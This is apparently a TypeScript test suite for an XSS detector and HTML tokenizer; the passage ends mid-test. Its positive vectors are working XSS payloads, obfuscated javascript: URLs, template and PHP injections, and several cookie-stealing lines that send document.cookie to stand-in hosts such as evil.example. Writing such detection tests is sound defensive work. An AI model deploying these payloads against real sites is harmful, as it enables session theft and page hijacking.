import t, { type Test } from 'tap';
import { detectXss } from '../../src/detectors/xss';
import { scanHtmlTags, type HtmlTag } from '../../src/tokenizers/html';
import { verdictDigest, verdictKey, verdictTable, pinnedVerdicts } from '../helpers/verdict-table';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with an `xss.` rule. */
const positives: string[] = [
  // Script and embedding tags.
  "<script>fetch('//x.example/c?'+document.cookie)</script>",
  '<SCRIPT SRC=//cdn.attacker.example/p.js></SCRIPT>',
  '<sCrIpT>prompt(7)</sCrIpT>',
  '<script/x>confirm(2)</script>',
  '<iframe src="https://frames.example/x"></iframe>',
  '<object data="movie.swf"></object>',
  '<embed src=payload.swf>',
  '<iframe srcdoc="&lt;b&gt;hi&lt;/b&gt;">',
  '<scr<script>ipt>alert(29)</script>',
  '<img src="x` `<script>alert(3)</script>"` `>',
  '\uff1cscript\uff1ealert(30)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(31)+ADw-/script+AD4-',
  '</title><script>alert(4)</script>',
  // Event handlers inside tags.
  '<svg onload=confirm(3)>',
  '<svg/onload=confirm(3)>',
  '<img src=nope onerror=prompt(8)>',
  '<img src="a.png"onerror="prompt(8)">',
  '<body onpageshow=alert(4)>',
  '<details open ontoggle=alert(5)>',
  '<x onclick=alert(6)>click',
  '<input autofocus onfocus=alert(9)>',
  '<video><source onerror="alert(33)"></video>',
  '<a onmouseover\n=\nalert(1)>x</a>',
  '<div onpointerrawupdate=alert(1)>',
  '<custom-el onfoo="bar()">',
  '<svg><set attributeName="onmouseover" to="alert(32)"/></svg>',
  // Script URLs in attributes, with the usual disguises.
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(10)">x</maction></math>',
  '<a href="jav&#x09;ascript:alert(11)">x</a>',
  '<a href="JaVaScRiPt:alert(12)">x</a>',
  '<a href="java\nscript:alert(13)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(14)">x</a>',
  '<a href=" \u0001javascript:alert(15)">x</a>',
  '<a href="javascript&colon;alert(16)">x</a>',
  '<a href="vbscript:MsgBox(1)">x</a>',
  '<a href="data:text/html;base64,PGI+aGk8L2I+">x</a>',
  '<a href="DATA:image/svg+xml,<svg/>">x</a>',
  '<form action="javascript:alert(16)"><button>go</button></form>',
  '<button formaction=javascript:alert(17)>x</button>',
  '<a href="j&#0;avascript:alert(1)">x</a>',
  // Other active tags.
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=import href=https://evil.example/x.html>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<xml src="island.xml"></xml>',
  '<div datasrc="#island" datafld="b" dataformatas="html"></div>',
  // Attribute breakouts without a tag.
  '" onmouseover="alert(18)',
  "' autofocus onfocus='alert(19)",
  'x" onpointerenter=prompt(20) y="',
  '"onfocus=alert(1) autofocus x="',
  '  onload= ',
  'x onmouseover=alert(1)',
  'Mozilla/5.0 (X11; onload=alert(document.domain))',
  // Script URLs on their own.
  'javascript:alert(21)',
  "  javascript:void(document.body.innerHTML='x')",
  'JAVASCRIPT:alert`1`',
  'javascript:/*x*/alert(1)',
  'vbscript:MsgBox("x")',
  'data:text/html,<b onmouseover=alert(1)>x</b>',
  '[click me](javascript:alert(1))',
  // CSS.
  '<div style="width: expression(alert(22))">',
  '<div style="x:exp/**/ression(alert(23))">',
  'color: red; background: url(javascript:alert(24))',
  'x:\\65xpression(alert(1))',
  'behavior: url(#default#time2)',
  // JavaScript string breakouts and sink calls.
  "';alert(26);//",
  '"-prompt(27)-"',
  "\\';confirm(1)//",
  '}alert(1);{',
  'alert(document.domain)',
  'prompt`1`',
  "eval(atob('YWxlcnQoMSk='))",
  "top['al'+'ert'](1)",
  'self[/con/.source+/firm/.source](1)',
  '[5].find(alert)',
  '[].map.call`${alert}`',
  'x&{alert(1)};',
  // Element names behind blanks, a namespace prefix, or spelled out letter by letter.
  '< script src=//cdn.attacker.example/p.js>',
  '<v: script>confirm(4)</v: script>',
  '<\tiframe src=//frames.example/x>',
  '<o b j e c t data=movie.swf>',
  'q<s\tc\tr\ti\tp\tt>',
  '<b a s e href=//evil.example/>',
  // A value that is only a numeric reference to `<`: a probe for entity decoding.
  '&#x00003C;',
  '&#0060',
  // Calls and DOM access carried inside a tag, whatever the attribute.
  '<a href="/help#prompt(9)">x</a>',
  '<img[x]src=1[y]onerror[z]="confirm(2)">',
  '<p title="document.domain">',
  '<q cite="https://x.example/#document.cookie=1">',
  // DOM code as a value or after a breakout.
  "document.location='https://evil.example/?c='+document.cookie",
  '";window.location="//evil.example";"',
  "'-document.write(1)-'",
  'document.body.appendChild(document.createElement("img")).src="//x.example"',
  'javascript:window.location',
  // Backslashes a string layer consumes before the call.
  'prompt\\(7\\)',
  'confirm\\`8\\`',
  // A DTD that gives elements a default event handler; IE behaviour imports squeezed together.
  '<!DOCTYPE r [<!ATTLIST p onmouseover CDATA "x()">]><p>',
  '<IMPORTIMPLEMENTATION="x.htc">',
  // Obfuscated CSS in a style attribute.
  '<b style="\\62 ehavior:url(x.htc)">',
  "<i style='col\\or:red'>",
  '<p style="font-family:\'\\3c \\2f style\\3e\'">',
  // Client-side templates.
  "{{constructor.constructor('alert(25)')()}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
];

/** Each must not be `high` (undefined, low or medium are fine). */
const notHigh: string[] = [
  'x<y>z',
  'use <b>bold</b> for emphasis',
  'contact <me@x.com>',
  '<p>Hello</p>',
  '<a href="/apps/">apps</a>',
  '<img src="cat.jpg" alt="cat">',
  '<img alt="JavaScript: The Good Parts" src="book.png">',
  'V1_OTHER_1"><IMG CLASS="SIZE-FULL',
  'JavaScript: The Good Parts',
  'I love javascript: it is fun (mostly)',
  'try javascript:alert(1) in the console',
  'Use `onClick={handle}` in the button',
  'online=true&onboarding=false',
  'Hello {{name}}, your order {{order.id}} shipped',
  'please confirm (yes/no)',
  'Status: alert (high)',
  'Check the alert(s) page',
  "don't-alert(me)",
  '<xml><ToUserName><![CDATA[u]]></ToUserName><Content><![CDATA[hi]]></Content></xml>',
  '<?xml version="1.0"?><note><to>Tove</to></note>',
  '<svg width="10" height="10"></svg>',
  'if (a<b && c>d) return;',
  '{"type": "data", "on": true, "expression": "a+b"}',
  'Use `document.cookie` carefully',
  'the </script> tag ends a script',
  'style: expression of interest',
  'data:image/png;base64,iVBORw0KGgo=',
  // CSS that looks odd but is ordinary or only probes (medium at most).
  '<div style="width:${w}px">',
  '<div style={styles.box}>',
  '<td style="font-family:\\5FAE\\8F6F\\96C5\\9ED1">',
  '<p style=\\"color:red;\\nmargin:0\\">hi</p>',
  '<div style="background:url(C:\\Users\\me\\bg.png)">',
  // Comparisons and prose, not tags.
  'n < script && m',
  'for (i = 0; i < iframes.length; i++)',
  'I <3 s c r i p t s',
  'price &#60; 10',
  '&lt;',
  // DOM names in prose, paths and ordinary code.
  'document.domain is deprecated',
  'see document.cookie docs',
  'files/document.body.txt (draft)',
  '<a href="https://docs.example/javascript-manual/document.cookie">cookies</a>',
  'window.location vs document.location, which to use?',
  'const el = document.getElementById("app");',
  'document.write() is deprecated',
  'eval() is evil',
  '<img src="cat.png" alt="Press confirm (yes) to go on">',
  '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
  '<noscript>Please enable JavaScript</noscript>',
];

/** Each must return undefined. */
const clean: string[] = [
  'a < b and c > d',
  '<3',
  'I <3 this product',
  "O'Brien",
  "it's 5 o'clock",
  'Tom & Jerry',
  'salt; pepper',
  '$5 & up',
  'https://example.com/path?x=1',
  'jane.doe@example.com',
  '+1 (555) 010-0000',
  'Müller & Söhne GmbH',
  'regular expression(s) are hard',
  'font: bold; color: red',
  'mailto:someone@example.com',
  'vbscript is deprecated',
  'the onload event fires when the page is ready',
  'x = confirm; y = prompt',
  '[link](https://example.com) and `code`',
  '**bold** and _italic_ and > quote',
  '1 < 2 > 0',
  '=> fat arrow',
  'Meet me at 5:30 (confirm)',
  '東京都渋谷区',
  '42',
  '',
];

t.test('positives are high xss findings', async (t) => {
  for (const v of positives) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', JSON.stringify(v));
    t.match(d?.rule ?? '', /^xss\.[a-z-]+$/, JSON.stringify(v));
  }
});

t.test('benign look-alikes are not high', async (t) => {
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', JSON.stringify(v));
});

t.test('plain benign values are not reported at all', async (t) => {
  for (const v of clean) t.equal(detectXss(v), undefined, JSON.stringify(v));
});

t.test('rules name the structure', async (t) => {
  const rule = (v: string): string | undefined => detectXss(v)?.rule;
  t.equal(rule('<script>alert(1)</script>'), 'xss.script-tag');
  t.equal(rule('<iframe src=//x.example>'), 'xss.embed-tag');
  t.equal(rule('<img src=x onerror=alert(1)>'), 'xss.event-handler');
  t.equal(rule('" onfocus="alert(1)" autofocus="'), 'xss.event-handler');
  t.equal(rule('<a href="javascript:alert(1)">x</a>'), 'xss.script-url');
  t.equal(rule('javascript:alert(1)'), 'xss.script-url');
  t.equal(rule('<base href="//evil.example/">'), 'xss.base-href');
  t.equal(rule('<meta http-equiv="refresh" content="0;url=//x.example">'), 'xss.meta-refresh');
  t.equal(rule('<link rel=import href=//x.example/a.html>'), 'xss.link-import');
  t.equal(rule('<style>body{}</style>'), 'xss.style-tag');
  t.equal(rule('a:expression(alert(1))'), 'xss.css-expression');
  t.equal(rule('-moz-binding: url(//x.example/b.xml#x)'), 'xss.css-binding');
  t.equal(rule("';alert(1)//"), 'xss.js-breakout');
  t.equal(rule('{{constructor.constructor("alert(1)")()}}'), 'xss.template-injection');
  t.equal(rule('<div datasrc=#x datafld=a dataformatas=html>'), 'xss.active-attribute');
  t.equal(rule('<!--#exec cmd="ls" -->'), undefined, 'an SSI directive is the ssi class\'s');
  t.equal(rule('alert(1);</script><b>'), 'xss.context-breakout');
  t.equal(rule('<f o r m action=//x.example>'), 'xss.tag-obfuscation');
  t.equal(rule('&#X3c;'), 'xss.encoded-probe');
  t.equal(rule('<a href="x#confirm(1)">'), 'xss.script-in-tag');
  t.equal(rule('document.cookie="sid=1"'), 'xss.dom-access');
  t.equal(rule('<x title="window.location">'), 'xss.dom-access');
  t.equal(rule('<a style="no\\xss:1">'), 'xss.css-obfuscation');
});

t.test('harmless markup is low, breakouts into harmless tags medium', async (t) => {
  t.equal(detectXss('use <b>bold</b>')?.confidence, 'low');
  t.equal(detectXss('"><img class="x">')?.confidence, 'medium');
  t.equal(detectXss('<svg width="1"></svg>')?.confidence, 'medium');
  t.equal(detectXss('try javascript:alert(1) in the console')?.confidence, 'medium');
  // A `}` followed by more CSS leaves the declaration block (high, below); a trailing one is medium.
  t.equal(detectXss('<div style="font-family:x}color:red">')?.rule, 'xss.css-injection');
  t.equal(detectXss('<div style="font-family:x}color:red">')?.confidence, 'high');
  t.equal(detectXss('<div style="font-family:x}body{color:red">')?.confidence, 'high');
  t.equal(detectXss('x = document.getElementById("app")')?.confidence, 'medium');
  t.equal(detectXss('<x xsi:schemaLocation="urn:x http://schemas.example/x.xsd">')?.confidence, 'low');
  // A bare `document.cookie` has no character the engine's mask lets through; with one it fires.
  t.equal(detectXss('document.cookie'), undefined);
  t.equal(detectXss('document.cookie;')?.confidence, undefined);
  t.equal(detectXss('(document.cookie)')?.confidence, 'medium');
});

t.test('reasons are one short sentence without echoing the input', async (t) => {
  const long = '<img src=x on' + 'x'.repeat(500) + '=alert(1)>';
  const d = detectXss(long);
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200, 'short reason');
  t.notMatch(d?.reason ?? '', /x{40}/);
  for (const v of positives) t.ok((detectXss(v)?.reason.length ?? 0) < 200, JSON.stringify(v));
});

t.test('html tokenizer splits tags like a browser', async (t) => {
  const tags: HtmlTag[] = [];
  scanHtmlTags('a < b <IMG SRC="x"onerror=y/z=1 \'q\'=2><!-- <script> --></p><svg/onload=f', (tag) => {
    tags.push(tag);
  });
  t.same(
    tags.map((x) => [x.name, x.closing, x.attributes.map((a) => [a.name, a.value, a.hasValue]), x.terminated]),
    [
      ['img', false, [['src', 'x', true], ['onerror', 'y/z=1', true], ["'q'", '2', true]], true],
      ['p', true, [], true],
      ['svg', false, [['onload', 'f', true]], false],
    ],
  );
  let count = 0;
  scanHtmlTags('<a><b><c>', () => {
    count++;
    return true;
  });
  t.equal(count, 1, 'visit can stop the scan');
});

t.test('html tokenizer: tag names folded only where they can be, adjacent tags all found', async (t) => {
  const names = (v: string): string[] => {
    const out: string[] = [];
    scanHtmlTags(v, (tag) => {
      out.push((tag.closing ? '/' : '') + tag.name + (tag.terminated ? '' : '…'));
    });
    return out;
  };
  // Upper case, mixed case and non-ASCII letters that lower-case (Kelvin sign, dotted I, É) still fold.
  t.same(names('<SCRIPT></ScRiPt><svg\u212a><x\u0130mg><x\u00c9t>'), ['script', '/script', 'svgk', 'xi\u0307mg', 'x\u00e9t']);
  t.same(names('<a-b_c:d>'), ['a-b_c:d']);
  // Tags glued together or one character apart, and a `<` two characters after a tag end.
  t.same(names('<b><i></i></b>'), ['b', 'i', '/i', '/b']);
  t.same(names('</a>x</a>x</a>'), ['/a', '/a', '/a']);
  t.same(names('<p>xy<q>x<<r>'), ['p', 'q', 'r']);
  t.same(names('<p>xyz<q'), ['p', 'q…']);
  t.same(names('<p>x'), ['p']);
  t.same(names('<p>xx'), ['p']);
  t.same(names('</a>x'.repeat(1000)).length, 1000);
  t.equal(detectXss('</a>x'.repeat(1000) + '<SCRIPT>')?.confidence, 'high');
  t.equal(detectXss('</a>x'.repeat(1000) + '<svg onload=alert(1)>')?.confidence, 'high');
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', 'a', '<', '>', '<a', '</', '<!', '<!--', '<?', '&#', '&#x', '&', '"', "'", '`', '{{', '}}', '${', ':', 'javascript:', '\ud800', '\udfff<a onx=1>', '\u0000<script\u0000>', '<a href="', '<a b=', '+ADw-'];
  for (const v of odd) t.doesNotThrow(() => detectXss(v), JSON.stringify(v));
  // Not a string at run time (a caller bypassing the types) is not a finding.
  t.equal(detectXss(42 as unknown as string), undefined);
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    lt: '<'.repeat(MB),
    ltA: '<a'.repeat(MB / 2),
    openAttr: '<a title="'.repeat(MB / 10),
    comments: '<!--'.repeat(MB / 4),
    parens: '('.repeat(MB),
    quotes: '"'.repeat(MB),
    singleQuotes: "'".repeat(MB),
    colons: ':'.repeat(MB),
    schemes: 'javascript:'.repeat(MB / 11),
    entities: '&#106;'.repeat(MB / 6),
    tabEntities: 'j&#9;'.repeat(MB / 5),
    handlers: ' onload='.repeat(MB / 8),
    cssComments: ':/*'.repeat(MB / 3),
    expressions: ':expression'.repeat(MB / 11),
    braces: '{{'.repeat(MB / 2),
    dollars: '${'.repeat(MB / 2),
    brackets: 'window['.repeat(MB / 7),
    fullWidth: '\uff1c'.repeat(MB),
    surrogates: '\ud800'.repeat(MB),
    nul: '\u0000'.repeat(MB),
    blanks: ' '.repeat(MB),
    prose: 'Tom & Jerry: a < b (c) = "d" '.repeat(MB / 29),
    attlist: '<!ATTLIST a on'.repeat(MB / 14),
    ltBlanks: '< '.repeat(MB / 2),
    ltPrefix: '<x: '.repeat(MB / 4),
    spelled: '<s c r i p '.repeat(MB / 11),
    domRoots: 'document.'.repeat(MB / 9),
    domChain: 'document.body' + '.a'.repeat(MB / 2),
    tagCalls: '<a b="alert(1) c" d=1>'.repeat(MB / 22),
    tagDom: '<a b="document.cookie x">'.repeat(MB / 25),
    styleEscapes: '<a style="' + '\\'.repeat(MB) + '">',
    styleBraces: '<a style="' + '}'.repeat(MB) + '">',
    backslashCalls: 'alert' + '\\'.repeat(MB),
    callTicks: '(`'.repeat(MB / 2),
    iframes: '<iframe '.repeat(MB / 8),
    players: '<iframe src="https://www.youtube.com/embed/x">'.repeat(MB / 46),
    timers: 'setTimeout(a, '.repeat(MB / 14),
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectXss(v), name);
  }
  const five = '<a b="c">x</a> '.repeat((5 * MB) / 15);
  t.doesNotThrow(() => detectXss(five), '5 MB');
  t.equal(detectXss('x'.repeat(MB) + '<script>alert(1)</script>')?.confidence, 'high', 'payload after 1 MB of padding');
});

t.test('player embeds, JSX handler bindings and timers given a function name', async (t) => {
  const high = [
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<x contenteditable onfocusin=alert(1)>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    // An iframe to a player host with anything active on it, or to any other host, stays high.
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)">',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<b>x</b>">',
    '<iframe src="https://www.youtube.com.evil.example/embed/x">',
    '<iframe src="https://www.youtube.com@evil.example/embed/x">',
    '<iframe src="https://www.youtube.com\\@evil.example/embed/x">',
    '<iframe src="http://www.youtube.com/embed/x">',
    '<iframe src="https://evil.example/embed/x">',
    '<iframe src="https://www.youtube.com/watch?v=x">',
    '<img src="x <iframe src="https://www.youtube.com/embed/x">',
    '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="//evil.example">',
    '<!-- <iframe src="https://www.youtube.com/embed/x"> -->',
    // JSX handlers that call or hold code.
    '<button onClick={alert(1)}>x</button>',
    // (`<button onClick={() => setOpen(true)}>` was here: a browser keeps only `{()` of it, an
    // unclosed block that never compiles; it is now a negative in the unclosed-block test below.)
    // Timers given code, a sink, or called after a breakout.
    'setTimeout(alert, 0)',
    "setTimeout('alert(1)', 0)",
    'setTimeout(function(){alert(1)}, 0)',
    "';setTimeout(x,1)//",
    "setInterval(eval, 1, 'alert(1)')",
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
  const notHigh = [
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc?start=30&amp;rel=0"></iframe>',
    '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360" allow="autoplay; fullscreen" allowfullscreen></iframe>',
    '<p>Map: <iframe src="https://www.google.com/maps/embed?pb=!1m18" style="border:0;" loading="lazy"></iframe></p>',
    '<iframe src=https://open.spotify.com/embed/track/4uLU6hMCjMI75M1A2tKUQC>',
    'export default function Button({ onClick }) { return <button onClick={onClick}>Save</button>; }',
    '<input onChange={this.handleChange} value={value} />',
    'setInterval(tick, 1000)',
    'setTimeout(this.poll, 500)',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  t.equal(detectXss('<iframe src="https://player.vimeo.com/video/1"></iframe>')?.confidence, 'medium', 'a player embed is still reported');
});

t.test('markup that changes what the page shows or loads, without script', async (t) => {
  // Each: [value, rule]. All high.
  const high: [string, string][] = [
    // A declaration hidden in a CSS string or unquoted url(), for a parser that ends them earlier.
    ["<p style=\"font-family:'Verdana;background-color:navy'\">hi</p>", 'xss.css-injection'],
    ['<span style="background:url(/img/a.png;display:none/*b*/)">x</span>', 'xss.css-injection'],
    ['<i style="background:url(\'/t.gif;visibility:hidden\')">', 'xss.css-injection'],
    // A `}` that leaves the declaration block and writes more.
    ['<b style="width:1px}p{display:none">', 'xss.css-injection'],
    ['<em style="margin:0 } body { background:black">', 'xss.css-injection'],
    // A loaded document in place of the element, or an element of another SVG document.
    ['<p style="content:url(//files.example/page.svg)">', 'xss.css-injection'],
    ['<g style="filter:url(/assets/fx.svg#blur)">', 'xss.css-injection'],
    ['<path style="marker-end:url(https://files.example/m.svg#tip)"/>', 'xss.css-injection'],
    // Links and images to an IPv4 address written as one integer, in hex or octal, or short.
    ['<a href="http://2130706433/login">bank</a>', 'xss.obfuscated-host'],
    ['<img src="//0x7f.0.0.1/a.png">', 'xss.obfuscated-host'],
    ['<a href="https://0177.0.0.1/">x</a>', 'xss.obfuscated-host'],
    ['<a href="http://user@10.1/">x</a>', 'xss.obfuscated-host'],
    ['<form action="HTTP://3232235777:8080/collect">', 'xss.obfuscated-host'],
    // A password field: a login form drawn on the page, or a target for the password manager.
    ['<input type=password name=pw>', 'xss.form-injection'],
    ['<form><input TYPE=" Password "></form>', 'xss.form-injection'],
    // An SVG animation that sends a link or image elsewhere.
    ['<svg><a><set attributeName="href" to="https://x.example/"/><text>go</text></a></svg>', 'xss.svg-animation'],
    ['<svg><image><animate attributeName="xlink:href" values="//x.example/1.png;//x.example/2.png"/></image></svg>', 'xss.svg-animation'],
    // Values that are nothing but end tags: they end the element they were placed in.
    ['</textarea>', 'xss.context-breakout'],
    ['"></title>', 'xss.context-breakout'],
    ['</head></html>', 'xss.context-breakout'],
    ['  </STYLE >', 'xss.context-breakout'],
    // Obsolete raw-text elements: the rest of the page becomes text.
    ['<plaintext>', 'xss.raw-text-tag'],
    ['x <xmp>', 'xss.raw-text-tag'],
    ['<LISTING>', 'xss.raw-text-tag'],
    // A comment opened at the start of the value and never closed hides the page after it.
    ['<!--[if IE]>', 'xss.comment-injection'],
    ["'><!-- rest", 'xss.comment-injection'],
    // After the blanks that end an unquoted attribute, an on*= that calls something, known event or not.
    ['  onsomethingnew=fn(1)', 'xss.event-handler'],
  ];
  for (const [v, rule] of high) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)}`);
    t.equal(d?.rule, rule, `rule: ${JSON.stringify(v)}`);
    t.ok((d?.reason.length ?? 0) < 200, 'short reason');
  }

  // Honest rich text around the same constructs: never high.
  const notHigh: string[] = [
    '<span style="mask:url(/icons/star.svg) no-repeat center; background-color:currentColor"></span>',
    '<rect style="fill:url(#g);clip-path:url(#c);marker-end:url(#arrow)"/>',
    '<div style="background:url(&quot;https://cdn.example/a.png&quot;);color:#333">',
    '<div style="background:url(https://shop.example/a;jsessionid=X1)">',
    "<div style=\"background-image:url(data:image/png;name=a;base64,iVBORw0KGgo=)\">",
    '<div style="background-image:url(&quot;data:image/svg+xml;charset=utf-8,%3Csvg%3E%3C/svg%3E&quot;)">',
    "<p style=\"font-family: Arial'; color: red\">a stray apostrophe</p>",
    "<p style=\"font-family:'Segoe UI', Roboto;font-size:14px\">",
    '<td style="padding:0 10px;}">a pasted rule</td>',
    '<p style="content: \'x\'">',
    '<div style="width:${w}px;color:{{color}}">',
    '<a href="tel://5550100">call</a> <a href="sms://+15550100">text</a>',
    '<a href="http://127.0.0.1:8080/health">local</a> <img src="http://10.1.2.3/cam.jpg">',
    '<a href="https://123.example.com/">x</a> <a href="https://0x.example.com/">y</a> <a href="http://www.example.com./">z</a>',
    '<a href="https://2fa.example.com/">2FA</a>',
    '<form action="https://list.example/subscribe" method="post"><input type="email" name="EMAIL"><input type="submit"></form>',
    '<svg viewBox="0 0 9 9"><use href="#f1"><animate attributeName="href" values="#f1;#f2;#f3" dur="1s"/></use></svg>',
    '<svg><circle r="5"><animate attributeName="r" from="5" to="9" dur="1s"/></circle></svg>',
    '<html><head><title>T</title></head><body><p>x</p><textarea>y</textarea></body></html>',
    'the </textarea> tag closes it',
    'Use <!-- to start a comment',
    '<!-- header --><p>x</p><!-- footer -->',
    '<p>A --> B</p>',
    ' online=1',
    '<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.isotc211.org/2005/gmd http://schemas.opengis.net/iso/19139/20060504/gmd/gmd.xsd">',
    '<noscript><img src="https://cdn.example/a.jpg"></noscript>',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${JSON.stringify(v)}`);

  // Medium: weaker signals and probes.
  t.equal(detectXss('<td style="padding:0;}">')?.confidence, 'medium', 'a trailing } is medium');
  t.equal(detectXss('<div style="font-family:x}">')?.rule, 'xss.css-injection');
  t.equal(detectXss('Use <!-- to start a comment')?.rule, 'xss.comment-injection');
  t.equal(detectXss('<noscript><img src="a.png"></noscript>')?.confidence, 'medium');
  t.equal(detectXss('<x xmlns="http://a.example/ns" xsi:schemaLocation="http://a.example/ns http://b.example/x.xsd">')?.confidence, 'medium', 'a schema on another site');
  t.equal(detectXss('<x xsi:schemaLocation="http://a.example/ns http://schemas.a.example/x.xsd">')?.confidence, 'low', 'a schema on the same site');
  t.equal(detectXss('x</title>')?.confidence, 'medium', 'an end tag after text');
  // A fragment's own markup is not a breakout: tags after tags, end tags of elements it opened.
  t.equal(detectXss('<table><tr><td align="center"><b>x</b></td></tr></table>')?.confidence, 'low');
  t.equal(detectXss('<html><head><meta charset="x"></head><body><p>x</p></body></html>')?.rule, 'xss.meta-refresh');
  t.equal(detectXss('<html><head></head><body><p>x</p></body></html>')?.confidence, 'low');
  // In a raw-text or RCDATA element the value's own opener is text: its end tag still leaves.
  t.equal(detectXss('<textarea>a</textarea></textarea><b>x</b>')?.confidence, 'medium');
  t.equal(detectXss('<html><head><title>T</title></head></html>')?.rule, 'xss.context-breakout');
  t.equal(detectXss('"><b>x</b>')?.confidence, 'medium', 'a quote and > before the first tag still are');
});

t.test('adversarial 1 MB inputs for the markup rules return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    styleStrings: '<a style="\'' + ';ab:'.repeat(MB / 4) + '">',
    styleUrls: '<a style="url(' + ';ab:'.repeat(MB / 4) + '">',
    styleUrlOpen: '<a style="' + 'url('.repeat(MB / 4) + '">',
    styleUrlBlanks: '<a style="x:url(' + ' '.repeat(MB) + '">',
    styleClose: '<a style="' + '}x'.repeat(MB / 2) + '">',
    styleRefs: '<a style="filter:' + 'url(a'.repeat(MB / 5) + '">',
    endTags: '</textarea>'.repeat(MB / 11) + 'x',
    openComments: '<!--'.repeat(MB / 4) + '-->',
    bangComments: '<!-- --!>'.repeat(MB / 9),
    hosts: '<a href="http://' + '0.'.repeat(MB / 2) + '">',
    animations: '<set ' + 'attributeName=href '.repeat(64) + 'values="' + 'a;'.repeat(MB / 2) + '">',
    schema: '<x xsi:schemaLocation="' + 'http://a.example/ http://b'.repeat(MB / 26) + '">',
    passwords: '<input type=password '.repeat(MB / 21),
  };
  for (const [name, v] of Object.entries(big)) t.doesNotThrow(() => detectXss(v), name);
});

t.test('runs of tags and `<` before a payload: the payload is still found', async (t) => {
  const junk = ['<', '<a ', '<a x="', '</a>x', '<b>', '<x:a ', '<svg:b>'];
  for (const j of junk) {
    for (const p of ['<script>alert(1)</script>', '<iframe src=//evil.example>', '<x:script>', '<img src=x onerror=alert(1)>']) {
      t.equal(detectXss(j.repeat(3000) + p)?.confidence, 'high', `${JSON.stringify(j)} then ${p}`);
    }
  }
  // One tag with more attributes than are recorded: the scan goes on to the tags after it.
  const tags: string[] = [];
  scanHtmlTags('<a ' + 'x="1" '.repeat(100) + '><b c=d>', (tag) => {
    tags.push(`${tag.name}:${tag.attributes.length}`);
  });
  t.same(tags, ['a:64', 'b:1']);
});

t.test('PHP code after an open tag, and client-side ReDoS in an injected <input pattern>', async (t) => {
  // Each: [value, rule]. All high.
  const high: [string, string][] = [
    ['<?php print_r($items); ?>', 'xss.server-code'],
    ['<?PhP', 'xss.server-code'],
    ['name: <?= $user->name ?>', 'xss.server-code'],
    ['<?=strtoupper($v)?>', 'xss.server-code'],
    ["<? passthru('uptime');", 'xss.server-code'],
    ['<?\tprint "ok";', 'xss.server-code'],
    ['<? $a = 1;', 'xss.server-code'],
    ['<input pattern="(b+)+c" value="bbbbbbbbbbbbbbbbbbbbbbbbbx">', 'xss.redos-pattern'],
    ['<INPUT PATTERN=^((x*y?)z)*$>', 'xss.redos-pattern'],
    ['<input pattern="(q{2,}|r)+">', 'xss.redos-pattern'],
    ['<input pattern="(((k+)))*">', 'xss.redos-pattern'],
  ];
  for (const [v, rule] of high) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)}`);
    t.equal(d?.rule, rule, `rule: ${JSON.stringify(v)}`);
  }
  // XML declarations and processing instructions, prose with `<?`, and form builders' patterns.
  const notHigh: string[] = [
    '<?xml version="1.0" encoding="UTF-8"?><order id="7"/>',
    '<?xml-model href="schema.rng"?>',
    'is it a <? or a <! here',
    'what <? this (really)',
    '<?phpunit config?>',
    '<?= 5',
    '<input type="tel" pattern="[0-9]{3}-[0-9]{4}">',
    '<input pattern="(\\d{3}) \\d{4}" name="phone">',
    '<input pattern="[(+*]+" name="x">',
    '<input pattern="(ab){2}" name="x">',
    '<input pattern="(\\+)+" name="x">',
    '<input pattern="[^@\\s]+@[^@\\s]+\\.[a-z]{2,}" type="email">',
    '<p>Use pattern=(a+)+ to see why nested quantifiers hang a regex engine.</p>',
    '<div pattern="(a+)+">a div has no pattern</div>',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${JSON.stringify(v)}`);

  const MB = 1 << 20;
  const big: Record<string, string> = {
    phpTags: '<? '.repeat(MB / 3),
    phpBlanks: '<?' + ' '.repeat(MB),
    phpNames: '<? ' + 'a'.repeat(MB),
    groups: '<input pattern="' + '('.repeat(MB) + '">',
    closes: '<input pattern="' + '(a+)'.repeat(MB / 4) + '">',
    classes: '<input pattern="' + '[\\'.repeat(MB / 2) + '">',
    repeats: '<input pattern="' + '{1'.repeat(MB / 2) + '">',
  };
